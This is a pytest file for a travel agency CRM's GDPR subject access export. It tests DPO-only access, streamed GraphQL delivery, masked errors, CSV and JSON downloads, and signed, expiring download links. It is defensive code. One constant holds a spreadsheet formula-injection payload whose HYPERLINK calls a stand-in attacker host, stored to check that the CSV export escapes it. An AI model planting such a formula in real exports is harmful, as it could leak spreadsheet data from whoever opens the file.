"""subjectAccessExport (Art. 15 + 20): complete, DPO only, streamable, masked, and its signed downloads."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from email.message import Message
from typing import Any

import httpx
import pytest
from tortoise.transactions import in_transaction

from auth import export_links
from auth.export_links import ExportLink
from models import AuditEvent, ConsentPurpose, ConsentRecord, Contact, Traveler, TravelRequest, Visibility
from models.enums import RequestStatus
from resolvers import deletion, export
from resolvers.clock import now
from schema.fastpath import export_stream
from schema.fastpath.plans import SLOW
from tests.conftest import SECRET
from tests.world import World, gid, make_world

EXPORT = """query($id: ID!) { subjectAccessExport(contactId: $id) {
  generatedAt csvUrl jsonUrl rightsNotice
  contact { id kind visibility restricted createdAt lastActivityAt firstName lastName email phone birthDate address
            notes owner { name email } consents { purpose granted since } }
  requests { id status destination departureDate returnDate travelerCount budgetCents createdAt lastActivityAt notes
             advisor { name email } travelers { firstName lastName birthDate } }
  consentHistory { id purpose granted recordedAt source wording recordedBy }
  accessLog { id at actor action contactId detail }
} }"""
STREAMED = """query($id: ID!) { subjectAccessExport(contactId: $id) {
  contact { firstName } requests @stream(initialCount: 1) { id destination travelers { firstName } }
} }"""
# Items the fast path builds from their rows (schema.fastpath.export_stream), with aliases and __typename ...
STREAMED_ROWS = """query($id: ID!) { subjectAccessExport(contactId: $id) { requests @stream(initialCount: 1) {
  __typename key: id status destination departureDate returnDate travelerCount budgetCents createdAt lastActivityAt
  notes advisor { __typename id name email role active } travelers { __typename firstName lastName birthDate } } } }"""
# ... and items it leaves to the objects: a field it does not compile, a fragment.
STREAMED_OBJECTS = """query($id: ID!) { subjectAccessExport(contactId: $id) { requests @stream(initialCount: 1) {
  id notes noteFindings { field } travelers { firstName } } } }"""
STREAMED_FRAGMENT = """query($id: ID!) { subjectAccessExport(contactId: $id) { requests @stream(initialCount: 1) {
  ... on TravelRequest { id destination advisor { name } } } } }"""
LINKS = "query($id: ID!) { subjectAccessExport(contactId: $id) { csvUrl jsonUrl } }"
MULTIPART = "multipart/mixed;deferSpec=20220824, application/json"
INJECTION = '=HYPERLINK("http://evil.example/?"&A1)'


@dataclass
class Person:
    contact: Contact
    requests: list[TravelRequest]
    consents: list[ConsentRecord]

    @property
    def id(self) -> str:
        return gid("Contact", self.contact.id)


@pytest.fixture
async def world(client) -> World:
    return await make_world()


@pytest.fixture
async def person(world: World) -> Person:
    """Éloïse Müller: three requests (one with two companions), a consent granted then withdrawn."""
    owner = world.users["owner"]
    at = now() - timedelta(days=3)
    contact = await Contact.create(
        agency=world.agency,
        owner=owner,
        team_id=owner.team_id,
        visibility=Visibility.ADVISOR,
        first_name="Éloïse",
        last_name="Müller",
        email="eloise@example.fr",
        phone="+33 6 12 34 56 78",
        birth_date=date(1985, 2, 14),
        address="12 rue de l'Église, 69001 Lyon",
        notes="Préfère le hublot",
        created_at=at,
        last_activity_at=at,
        search_text="eloise muller",
    )
    requests = []
    for i, (destination, notes) in enumerate([("Séville", "Lune de miel"), ("Kyōto", INJECTION), ("Reykjavík", None)]):
        request = await TravelRequest.create(
            agency=world.agency,
            contact=contact,
            advisor=owner,
            destination=destination,
            notes=notes,
            status=RequestStatus.QUOTED if i == 0 else RequestStatus.NEW,
            departure_date=date(2031, 6, 1 + i),
            return_date=date(2031, 6, 10 + i),
            traveler_count=3 if i == 0 else 1,
            budget_cents=450_000 if i == 0 else None,
            created_at=at + timedelta(minutes=i),
            last_activity_at=at + timedelta(minutes=i),
        )
        requests.append(request)
    await Traveler.create(
        request=requests[0], position=0, first_name="Zoé", last_name="Dupré", birth_date=date(2015, 3, 1)
    )
    await Traveler.create(request=requests[0], position=1, first_name="Noël", last_name="Müller")
    consents = [
        await ConsentRecord.create(
            contact=contact,
            purpose=ConsentPurpose.NEWSLETTER,
            granted=granted,
            recorded_at=at + timedelta(hours=h),
            source=source,
            wording=wording,
            recorded_by=owner.email,
        )
        for h, granted, source, wording in [
            (1, True, "https://agence.example/contact", "J'accepte de recevoir la lettre d'information."),
            (2, False, "phone call", "Ne souhaite plus recevoir la lettre."),
        ]
    ]
    return Person(contact=contact, requests=requests, consents=consents)


def multipart_parts(response: httpx.Response) -> list[dict[str, Any]]:
    """The JSON payloads of a multipart/mixed body, part by part, each checked against its Content-Length."""
    header = Message()
    header["content-type"] = response.headers["content-type"]
    assert header.get_content_type() == "multipart/mixed"
    delimiter = b"--" + str(header.get_param("boundary")).encode()
    body = response.content
    assert body.startswith(delimiter)
    rest, parts = body[len(delimiter) :], []
    while not rest.startswith(b"--"):  # the close delimiter is the boundary followed by "--"
        assert rest.startswith(b"\r\n"), rest[:40]
        end = rest.index(b"\r\n" + delimiter)
        head, _, payload = rest[2:end].partition(b"\r\n\r\n")
        fields = dict(line.split(": ", 1) for line in head.decode().split("\r\n"))
        assert fields["Content-Type"].startswith("application/json")
        assert int(fields["Content-Length"]) == len(payload)
        parts.append(json.loads(payload))
        rest = rest[end + 2 + len(delimiter) :]
    return parts


async def post_multipart(client, query: str, variables: dict, token: str) -> httpx.Response:
    headers = {"Authorization": f"Bearer {token}", "Accept": MULTIPART}
    response = await client.http.post("/graphql", json={"query": query, "variables": variables}, headers=headers)
    assert response.status_code == 200, response.text
    return response


async def links(client, world: World, person: Person) -> dict[str, str]:
    return (await client.data(LINKS, {"id": person.id}, world.tokens["dpo"]))["subjectAccessExport"]


def path_of(url: str) -> str:
    assert url.startswith("http://testserver/exports/"), url
    return url.removeprefix("http://testserver")


# -- the GraphQL export ---------------------------------------------------------------------------


async def test_the_export_holds_what_was_stored(client, world: World, person: Person) -> None:
    dpo = world.users["dpo"]
    await client.data(
        'mutation($id: ID!) { updateContact(id: $id, patch: {address: "1 quai Saint-Vincent"}) { address } }',
        {"id": person.id},
        world.tokens["owner"],
    )
    await person.contact.refresh_from_db()
    before = now()
    data = (await client.data(EXPORT, {"id": person.id}, world.tokens["dpo"]))["subjectAccessExport"]

    c = person.contact
    owner = world.users["owner"]
    assert data["contact"] == {
        "id": person.id,
        "kind": "PROSPECT",
        "visibility": "ADVISOR",
        "restricted": False,
        "createdAt": c.created_at.isoformat(),
        "lastActivityAt": c.last_activity_at.isoformat(),
        "firstName": "Éloïse",
        "lastName": "Müller",
        "email": "eloise@example.fr",
        "phone": "+33 6 12 34 56 78",
        "birthDate": "1985-02-14",
        "address": "1 quai Saint-Vincent",
        "notes": "Préfère le hublot",
        "owner": {"name": owner.name, "email": owner.email},
        "consents": [{"purpose": "NEWSLETTER", "granted": False, "since": person.consents[1].recorded_at.isoformat()}],
    }
    assert [r["id"] for r in data["requests"]] == [gid("TravelRequest", r.id) for r in person.requests]
    for got, row in zip(data["requests"], person.requests, strict=True):
        assert got["status"] == row.status.value and got["destination"] == row.destination
        assert got["departureDate"] == row.departure_date.isoformat()  # type: ignore[union-attr]
        assert got["returnDate"] == row.return_date.isoformat()  # type: ignore[union-attr]
        assert (got["travelerCount"], got["budgetCents"], got["notes"]) == (
            row.traveler_count,
            row.budget_cents,
            row.notes,
        )
        assert got["createdAt"] == row.created_at.isoformat()
        assert got["advisor"] == {"name": owner.name, "email": owner.email}
    assert data["requests"][0]["travelers"] == [
        {"firstName": "Zoé", "lastName": "Dupré", "birthDate": "2015-03-01"},
        {"firstName": "Noël", "lastName": "Müller", "birthDate": None},
    ]
    assert data["requests"][1]["travelers"] == []
    assert data["consentHistory"] == [
        {
            "id": gid("ConsentRecord", r.id),
            "purpose": "NEWSLETTER",
            "granted": r.granted,
            "recordedAt": r.recorded_at.isoformat(),
            "source": r.source,
            "wording": r.wording,
            "recordedBy": owner.email,
        }
        for r in person.consents
    ]
    # Newest first: this export, then what the owner's update did and saw.
    log = data["accessLog"]
    assert [(e["action"], e["actor"]) for e in log] == [
        ("EXPORT", dpo.email),
        ("VIEW_PERSONAL", owner.email),
        ("UPDATE", owner.email),
    ]
    assert all(e["contactId"] == person.id for e in log)
    assert log[2]["detail"] == "fields: address"
    stored = await AuditEvent.filter(contact_ref=person.id).order_by("-id")
    assert stored[0].action == "VIEW_PERSONAL" and stored[0].actor == dpo.email  # the export's own view, written last
    assert [e["id"] for e in log] == [gid("AuditEvent", e.id) for e in stored[1:]]

    generated = datetime.fromisoformat(data["generatedAt"])
    assert before <= generated <= now()
    assert path_of(data["csvUrl"]).endswith(".csv") and path_of(data["jsonUrl"]).endswith(".json")

    # Art. 15(1)(a)-(h), in plain words.
    notice = data["rightsNotice"]
    for expected in [
        "Agence A",
        "travel requests",  # controller and purposes
        "identity: your contact record (first name, last name)",
        "birth date",
        "travel companions",
        "consent",
        world.users["owner"].name,
        "data protection officer",  # recipients
        "36 months",  # the agency's retention period
        "access",
        "correct",
        "erase",
        "restrict",
        "portability",
        "object",
        "CNIL",
        "https://agence.example/contact",
        "phone call",  # the sources recorded
        "no profiling",
    ]:
        assert expected in notice, expected
    assert "newsletter" not in notice.split("What data")[0]  # withdrawn: no longer a purpose

    bare = await Contact.create(
        agency=world.agency,
        owner=world.users["owner"],
        visibility=Visibility.AGENCY,
        first_name="Anna",
        last_name="Berg",
        created_at=now(),
        last_activity_at=now(),
    )
    notice = (
        await client.data(
            "query($id: ID!) { subjectAccessExport(contactId: $id) { rightsNotice } }",
            {"id": gid("Contact", bare.id)},
            world.tokens["dpo"],
        )
    )["subjectAccessExport"]["rightsNotice"]
    assert "Where your data comes from: collected by the agency." in notice
    assert "the agency's staff" in notice


async def test_only_the_agencys_dpo_may_export(client, world: World, person: Person) -> None:
    for position, code in [
        ("owner", "FORBIDDEN"),
        ("mate", "FORBIDDEN"),
        ("admin", "FORBIDDEN"),
        ("foreign_dpo", "NOT_FOUND"),
    ]:
        body = await client.post(EXPORT, {"id": person.id}, world.tokens[position])
        assert body["data"] is None, position
        assert [e["extensions"]["code"] for e in body["errors"]] == [code], position
        assert "Éloïse" not in json.dumps(body, ensure_ascii=False)
    assert not await AuditEvent.filter(action="EXPORT").exists()


# -- incremental delivery ---------------------------------------------------------------------------


async def test_requests_stream_part_by_part(client, world: World, person: Person, monkeypatch) -> None:
    monkeypatch.setattr(export, "ROW_CHUNK", 2)  # several keyset reads for three requests
    response = await post_multipart(client, STREAMED, {"id": person.id}, world.tokens["dpo"])
    assert "deferSpec=20220824" in response.headers["content-type"]
    parts = multipart_parts(response)
    assert len(parts) >= 2

    first = parts[0]
    assert first == {"data": first["data"], "hasNext": True}  # the 2022 format: no `pending`
    assert first["data"]["subjectAccessExport"]["contact"] == {"firstName": "Éloïse"}
    items = list(first["data"]["subjectAccessExport"]["requests"])
    assert len(items) == 1  # initialCount

    for part in parts[1:]:
        assert set(part) <= {"incremental", "hasNext"}, part  # no pending, completed, null extensions
        for increment in part.get("incremental", []):
            assert set(increment) == {"items", "path"}, increment  # no id, no null label
            assert increment["path"] == ["subjectAccessExport", "requests", len(items)]  # the first item's index
            items += increment["items"]
    assert parts[-1]["hasNext"] is False and all(p["hasNext"] for p in parts[:-1])
    assert [i["id"] for i in items] == [gid("TravelRequest", r.id) for r in person.requests]
    assert [i["destination"] for i in items] == ["Séville", "Kyōto", "Reykjavík"]
    assert items[0]["travelers"] == [{"firstName": "Zoé"}, {"firstName": "Noël"}]


@pytest.mark.parametrize(
    ("query", "from_rows"), [(STREAMED_ROWS, True), (STREAMED_OBJECTS, False), (STREAMED_FRAGMENT, False)]
)
async def test_streamed_items_are_the_plain_answers_items(
    client, world: World, person: Person, monkeypatch, fast_execution: bool, query: str, from_rows: bool
) -> None:
    """Whatever the initial count and however the chunks fall, the streamed items are those of the same export
    without @stream; the fast path builds them from their rows when it knows their selection."""
    monkeypatch.setattr(export, "ROW_CHUNK", 2)  # a chunk left half given at the initial count, and a last one
    built, build = [], export_stream.build

    def counted(*args: Any) -> Any:
        built.append(build(*args))
        return built[-1]

    monkeypatch.setattr(export_stream, "build", counted)
    plain = await client.post(query.replace(" @stream(initialCount: 1)", ""), {"id": person.id}, world.tokens["dpo"])
    expected = plain["data"]["subjectAccessExport"]["requests"]
    assert len(expected) == 3 and "errors" not in plain
    for initial in (0, 1, 2, 3, 5):
        built.clear()
        text = query.replace("initialCount: 1", f"initialCount: {initial}")
        response = await post_multipart(client, text, {"id": person.id}, world.tokens["dpo"])
        # Every item within the initial count: one plain answer.
        parts = multipart_parts(response) if "multipart" in response.headers["content-type"] else [response.json()]
        items = parts[0]["data"]["subjectAccessExport"]["requests"]
        items += [item for part in parts[1:] for entry in part.get("incremental", []) for item in entry["items"]]
        assert items == expected, initial
        assert not [part for part in parts if "errors" in json.dumps(part)]
        assert len(built) == (max(3 - initial, 0) if from_rows and fast_execution else 0)
        assert SLOW not in built


async def test_an_item_the_fast_path_cannot_build_takes_the_object_path(
    client, world: World, person: Person, database_url: str, monkeypatch, fast_execution: bool
) -> None:
    """A budget beyond GraphQL's Int (SQLite keeps any integer): that item is built as an object, its field null with
    its error, as without @stream; the other items are built from their rows."""
    if not database_url.startswith("sqlite"):
        pytest.skip("a PostgreSQL integer column holds no such budget")
    await TravelRequest.filter(id=person.requests[1].id).update(budget_cents=2**40)
    built, build = [], export_stream.build

    def counted(*args: Any) -> Any:
        built.append(build(*args))
        return built[-1]

    monkeypatch.setattr(export_stream, "build", counted)
    query = STREAMED_ROWS.replace("initialCount: 1", "initialCount: 0")
    plain = await client.post(query.replace(" @stream(initialCount: 0)", ""), {"id": person.id}, world.tokens["dpo"])
    parts = multipart_parts(await post_multipart(client, query, {"id": person.id}, world.tokens["dpo"]))
    entries = [entry for part in parts[1:] for entry in part.get("incremental", [])]
    assert [item for entry in entries for item in entry["items"]] == plain["data"]["subjectAccessExport"]["requests"]
    assert plain["data"]["subjectAccessExport"]["requests"][1]["budgetCents"] is None
    errors = [(e["message"], e["path"]) for entry in entries for e in entry.get("errors", [])]
    assert errors == [(e["message"], e["path"]) for e in plain["errors"]]
    assert errors and errors[0][1] == ["subjectAccessExport", "requests", 1, "budgetCents"]
    assert len(built) == (3 if fast_execution else 0)
    if fast_execution:
        assert built[1] is SLOW and SLOW not in (built[0], built[2])


async def test_errors_mid_stream_are_masked(client, world: World, person: Person, monkeypatch) -> None:
    """The same unexpected failure, streamed and not: both answers say only "Unexpected error"."""
    monkeypatch.setattr(export, "ROW_CHUNK", 1)
    original, calls = export.requests_after, []

    async def failing(*args: Any) -> list[TravelRequest]:
        calls.append(args)
        if len(calls) > 1:
            raise RuntimeError("SELECT secret FROM contact WHERE first_name = 'Éloïse'")
        return await original(*args)

    monkeypatch.setattr(export, "requests_after", failing)
    response = await post_multipart(client, STREAMED, {"id": person.id}, world.tokens["dpo"])
    parts = multipart_parts(response)
    assert len(parts[0]["data"]["subjectAccessExport"]["requests"]) == 1  # delivered before the failure
    streamed = [e for p in parts for i in p.get("incremental", []) for e in i.get("errors", [])]
    assert "completed" not in response.text
    assert len(calls) == 2

    calls.clear()
    body = await client.post(STREAMED.replace(" @stream(initialCount: 1)", ""), {"id": person.id}, world.tokens["dpo"])
    assert body["data"] is None and len(calls) == 2
    for errors, text in [(streamed, response.text), (body["errors"], json.dumps(body, ensure_ascii=False))]:
        assert [(e["message"], e["extensions"]) for e in errors] == [
            ("Unexpected error", {"code": "INTERNAL_SERVER_ERROR"})
        ]
        assert errors[0]["path"][:2] == ["subjectAccessExport", "requests"]
        assert "SELECT" not in text and "secret" not in text and "RuntimeError" not in text


async def test_late_frames_are_in_the_view_log(client, world: World, person: Person) -> None:
    """A deferred fragment or a streamed item reveals personal data after the first frame: still logged, once."""
    owner, dpo = world.users["owner"], world.users["dpo"]
    hidden = world.contacts[Visibility.ADVISOR]
    deferred = "query($id: ID!) { contact(id: $id) { id ... @defer { firstName email } } }"
    parts = multipart_parts(
        await post_multipart(client, deferred, {"id": gid("Contact", hidden.id)}, world.tokens["owner"])
    )
    assert parts[0]["data"] == {"contact": {"id": gid("Contact", hidden.id)}}
    assert [i["data"] for p in parts[1:] for i in p.get("incremental", [])] == [
        {"firstName": hidden.first_name, "email": hidden.email}
    ]
    views = AuditEvent.filter(action="VIEW_PERSONAL")
    assert await views.values_list("actor", "contact_ref") == [(owner.email, gid("Contact", hidden.id))]

    both = (
        "query($id: ID!) { subjectAccessExport(contactId: $id) { contact { firstName } requests @stream { notes } } }"
    )
    await post_multipart(client, both, {"id": person.id}, world.tokens["dpo"])
    assert await views.filter(actor=dpo.email).count() == 1  # the first frame's and the later ones': one event
    late = "query($id: ID!) { subjectAccessExport(contactId: $id) { requests @stream { notes } } }"
    await post_multipart(client, late, {"id": person.id}, world.tokens["dpo"])
    assert await views.filter(actor=dpo.email).count() == 2


# -- downloads ------------------------------------------------------------------------------------------


async def test_csv_download_opens_in_a_spreadsheet(client, world: World, person: Person, monkeypatch) -> None:
    urls = await links(client, world, person)
    monkeypatch.setattr(export, "ROW_CHUNK", 2)
    original, calls = export.requests_after, []

    async def counted(*args: Any) -> list[Any]:
        calls.append(args[-1])
        return await original(*args)

    monkeypatch.setattr(export, "requests_after", counted)
    response = await client.http.get(path_of(urls["csvUrl"]))  # no Authorization header
    assert response.status_code == 200
    assert calls == [2, 2]  # keyset chunks, never the whole list
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith("attachment;")
    assert response.headers["cache-control"] == "no-store"
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel then reads UTF-8
    assert response.content.count(b"\n") == response.content.count(b"\r\n") == 1 + 3 + 2  # header, requests, consents

    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [r["record_type"] for r in rows] == ["request"] * 3 + ["consent"] * 2
    for row in rows:  # the person's data on every row, accents intact
        assert (row["first_name"], row["last_name"], row["address"]) == (
            "Éloïse",
            "Müller",
            "12 rue de l'Église, 69001 Lyon",
        )
        assert row["phone"] == "'+33 6 12 34 56 78"  # a leading + would start a formula
    requests = rows[:3]
    assert [r["destination"] for r in requests] == ["Séville", "Kyōto", "Reykjavík"]
    assert [r["request_id"] for r in requests] == [gid("TravelRequest", r.id) for r in person.requests]
    assert requests[0]["travelers"] == "Zoé Dupré (2015-03-01); Noël Müller"
    assert (requests[0]["status"], requests[0]["advisor"]) == ("QUOTED", world.users["owner"].name)
    assert (requests[0]["departure_date"], requests[0]["return_date"]) == ("2031-06-01", "2031-06-10")
    assert requests[0]["request_created_at"] == person.requests[0].created_at.isoformat()
    assert (requests[0]["traveler_count"], requests[1]["traveler_count"]) == ("3", "1")
    assert requests[0]["budget_cents"] == "450000" and requests[2]["budget_cents"] == ""
    assert requests[1]["request_notes"] == "'" + INJECTION
    assert all(r["consent_purpose"] == "" for r in requests)
    consents = rows[3:]
    assert [(r["consent_granted"], r["consent_source"]) for r in consents] == [
        ("true", "https://agence.example/contact"),
        ("false", "phone call"),
    ]
    assert consents[0]["consent_wording"] == "J'accepte de recevoir la lettre d'information."
    assert all(r["request_id"] == "" for r in consents)

    downloaded = await AuditEvent.filter(action="EXPORT").order_by("-id").first()
    assert (downloaded.actor, downloaded.detail, downloaded.contact_ref) == (
        world.users["dpo"].email,
        "download csv",
        person.id,
    )


async def test_json_download_equals_the_graphql_export(client, world: World, person: Person, monkeypatch) -> None:
    monkeypatch.setattr(export, "ROW_CHUNK", 2)  # the file's requests in two chunks
    exported = (await client.data(EXPORT, {"id": person.id}, world.tokens["dpo"]))["subjectAccessExport"]
    response = await client.http.get(path_of(exported.pop("jsonUrl")))
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/json")
    assert response.headers["content-disposition"].startswith("attachment;")
    assert response.headers["cache-control"] == "no-store"
    downloaded = json.loads(response.content)
    del exported["csvUrl"]

    # Each read the trail at its own moment: the download also sees what came after the GraphQL export,
    # the DPO's view of it (written when that response ended) and the download itself.
    assert downloaded["accessLog"][2:] == exported["accessLog"]
    assert [(e["action"], e["detail"], e["actor"]) for e in downloaded["accessLog"][:2]] == [
        ("EXPORT", "download json", world.users["dpo"].email),
        ("VIEW_PERSONAL", "", world.users["dpo"].email),
    ]
    assert datetime.fromisoformat(downloaded["generatedAt"]) >= datetime.fromisoformat(exported["generatedAt"])
    for key in ("accessLog", "generatedAt"):
        del downloaded[key], exported[key]
    assert downloaded == exported


async def test_a_download_holds_only_the_persons_travelers(client, world: World, person: Person, monkeypatch) -> None:
    """A chunk's travelers are read by its id range: another person's request inside that range stays out."""
    monkeypatch.setattr(export, "ROW_CHUNK", 2)
    other = world.contacts[Visibility.AGENCY]
    owner = world.users["owner"]
    at = now()
    for contact, destination in [(other, "Oslo"), (person.contact, "Tallinn")]:  # Oslo: in the last chunk's id range
        request = await TravelRequest.create(
            agency=world.agency,
            contact=contact,
            advisor=owner,
            destination=destination,
            created_at=at,
            last_activity_at=at,
        )
        await Traveler.create(request=request, first_name=f"Compagnon {destination}", last_name="Test")
    urls = await links(client, world, person)
    downloaded = (await client.http.get(path_of(urls["csvUrl"]))).content.decode("utf-8-sig")
    requests = [r for r in csv.DictReader(io.StringIO(downloaded)) if r["record_type"] == "request"]
    assert [r["destination"] for r in requests] == ["Séville", "Kyōto", "Reykjavík", "Tallinn"]
    assert [r["travelers"] for r in requests[2:]] == ["", "Compagnon Tallinn Test"]

    records = json.loads((await client.http.get(path_of(urls["jsonUrl"]))).content)["requests"]
    assert [[t["firstName"] for t in r["travelers"]] for r in records[2:]] == [[], ["Compagnon Tallinn"]]


async def test_a_csv_without_requests_still_holds_the_person(client, world: World) -> None:
    bare = await Contact.create(
        agency=world.agency,
        owner=world.users["owner"],
        visibility=Visibility.AGENCY,
        first_name="Anna",
        last_name="Berg",
        created_at=now(),
        last_activity_at=now(),
    )
    url = (await client.data(LINKS, {"id": gid("Contact", bare.id)}, world.tokens["dpo"]))["subjectAccessExport"][
        "csvUrl"
    ]
    response = await client.http.get(path_of(url))
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [(r["record_type"], r["first_name"], r["last_name"], r["request_id"]) for r in rows] == [
        ("contact", "Anna", "Berg", "")
    ]


async def test_a_link_reveals_nothing_to_whoever_it_is_forwarded_to(client, world: World, person: Person) -> None:
    first, second = await links(client, world, person), await links(client, world, person)
    tokens = [
        path_of(url).removeprefix("/exports/").removesuffix(suffix)
        for urls in (first, second)
        for url, suffix in ((urls["csvUrl"], ".csv"), (urls["jsonUrl"], ".json"))
    ]
    assert tokens[0] == tokens[1] and tokens[2] == tokens[3] and tokens[0] != tokens[2]  # one token per export
    dpo = world.users["dpo"]
    for token in (tokens[0], tokens[2]):
        assert re.fullmatch(r"[A-Za-z0-9_-]+", token) and len(token) < 100
        sealed = base64.urlsafe_b64decode(token + "=" * (-len(token) % 4))
        readable = sealed.decode("latin-1")
        for secret in (dpo.email, dpo.email.split("@")[0], '"c"', '"by"', "exp"):
            assert secret not in readable and secret.encode() not in sealed
        with pytest.raises((UnicodeDecodeError, json.JSONDecodeError)):  # not JSON, not even text
            json.loads(sealed)
    # Sealed with a random nonce: two links to the same person share nothing past chance.
    one, two = (base64.urlsafe_b64decode(t + "=" * (-len(t) % 4)) for t in (tokens[0], tokens[2]))
    assert sum(a == b for a, b in zip(one, two, strict=False)) < len(one) // 4


async def test_a_tampered_link_gives_nothing(client, world: World, person: Person) -> None:
    path = path_of((await links(client, world, person))["jsonUrl"])
    token = path.removeprefix("/exports/").removesuffix(".json")
    middle = len(token) // 2
    flipped = token[:middle] + ("A" if token[middle] != "A" else "B") + token[middle + 1 :]
    dpo = world.users["dpo"]
    other = ExportLink(agency_id=world.agency.id, contact_id=world.contacts[Visibility.ADVISOR].id, user_id=dpo.id)
    foreign_key = export_links.sign("another-secret-" + "y" * 40, other, issued_at=now(), lifetime=timedelta(minutes=5))
    for bad in [flipped, token[:-1], token + "A", token[:20], foreign_key, "x.y", "é", "A" * 300]:
        response = await client.http.get(f"/exports/{bad}.json")
        assert response.status_code == 403, bad
        assert response.headers["cache-control"] == "no-store"
        assert "Éloïse" not in response.text and "Prenom" not in response.text
    assert not await AuditEvent.filter(detail__startswith="download").exists()
    assert (await client.http.get(path)).status_code == 200  # the genuine link still works
    download = await AuditEvent.get(detail="download json")
    assert download.actor == dpo.email


async def test_an_expired_link_gives_nothing(client, world: World, person: Person) -> None:
    dpo = world.users["dpo"]
    link = ExportLink(agency_id=world.agency.id, contact_id=person.contact.id, user_id=dpo.id)
    lifetime = timedelta(minutes=10)
    expired = export_links.sign(SECRET, link, issued_at=now() - timedelta(minutes=11), lifetime=lifetime)
    fresh = export_links.sign(SECRET, link, issued_at=now(), lifetime=lifetime)
    for extension in ("csv", "json"):
        response = await client.http.get(f"/exports/{expired}.{extension}")
        assert response.status_code == 403
        assert "Éloïse" not in response.text
        assert (await client.http.get(f"/exports/{fresh}.{extension}")).status_code == 200


def test_links_of_another_secret_are_refused() -> None:
    link = ExportLink(agency_id=1, contact_id=2, user_id=3)
    token = export_links.sign("another-secret-" + "y" * 40, link, issued_at=now(), lifetime=timedelta(minutes=10))
    with pytest.raises(export_links.InvalidLink):
        export_links.verify(SECRET, token, at=now())
    assert export_links.verify("another-secret-" + "y" * 40, token, at=now()) == link
    with pytest.raises(ValueError, match="at least 32 characters"):
        export_links.sign("", link, issued_at=now(), lifetime=timedelta(minutes=10))


async def test_a_link_dies_with_the_person_or_the_dpos_role(client, world: World, person: Person) -> None:
    erased = path_of((await links(client, world, person))["csvUrl"])
    other = world.contacts[Visibility.AGENCY]
    revoked = path_of(
        (await client.data(LINKS, {"id": gid("Contact", other.id)}, world.tokens["dpo"]))["subjectAccessExport"][
            "jsonUrl"
        ]
    )
    async with in_transaction() as conn:
        await deletion.delete_contacts([person.contact.id], conn)
    response = await client.http.get(erased)
    assert response.status_code == 404
    assert "Éloïse" not in response.text

    dpo = world.users["dpo"]
    dpo.active = False
    await dpo.save(update_fields=["active"])
    response = await client.http.get(revoked)
    assert response.status_code == 403
    assert other.first_name not in response.text
